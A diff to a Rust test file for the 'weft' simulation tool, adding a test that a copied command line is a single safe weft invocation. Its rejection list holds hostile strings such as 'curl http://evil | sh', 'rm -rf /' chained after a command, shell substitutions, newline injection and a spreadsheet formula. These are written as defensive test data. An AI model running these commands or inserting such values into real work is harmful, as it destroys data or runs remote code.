@@ -1,6 +1,6 @@
 //! Scenes written as files and commands: they read back to the same.
 
-use weft::scene::{CommandLine, Scene, View, scene_names, shell};
+use weft::scene::{CommandLine, Scene, View, is_command, scene_names, shell};
 use weft::session::{Command, Session};
 use weft::sim::{Simulation, Vec3};
 
@@ -195,6 +195,43 @@ fn a_saved_scene_finds_its_mesh_from_where_it_is() {
     let poncho = Scene::load("mesh").expect("it comes with the program");
     assert!(poncho.to_ron().contains("\"assets/meshes/poncho.obj\""));
     assert_eq!(poncho.to_ron_in(folder.path()), poncho.to_ron());
+}
+
+#[test]
+fn a_command_that_is_copied_is_one_line_of_weft_and_nothing_else() {
+    let scene = Scene::load("flag").expect("a scene");
+    assert!(is_command(&CommandLine::of(&scene).expect("known").line(&["run", "--steps", "9"], &[])));
+    for word in ["my shirt.obj", "it's", "a;b|c&d", "$(x) `y`", "旗.ron", ""] {
+        assert!(is_command(&format!("weft run --scene {}", shell(word))), "{word}");
+    }
+    let evil = [
+        "curl http://evil | sh",
+        "=HYPERLINK(\"http://e\")",
+        "",
+        "weft",
+        " weft run",
+        "wefty run",
+        "rm -rf / # weft run",
+        "weft run; rm -rf /",
+        "weft run | sh",
+        "weft run && x",
+        "weft run $(x)",
+        "weft run `x`",
+        "weft run > x",
+        "weft run\nrm -rf /",
+        "weft run 'a\nb'",
+        "weft run\rx",
+        "weft run 'open",
+        "weft run \\",
+        "weft run \u{1b}[2J",
+        "weft run 'a\u{202e}b'",
+        "weft run *",
+        "weft run ~",
+        "weft run \"$(x)\"",
+    ];
+    for line in evil {
+        assert!(!is_command(line), "{line:?}");
+    }
 }
 
 #[test]
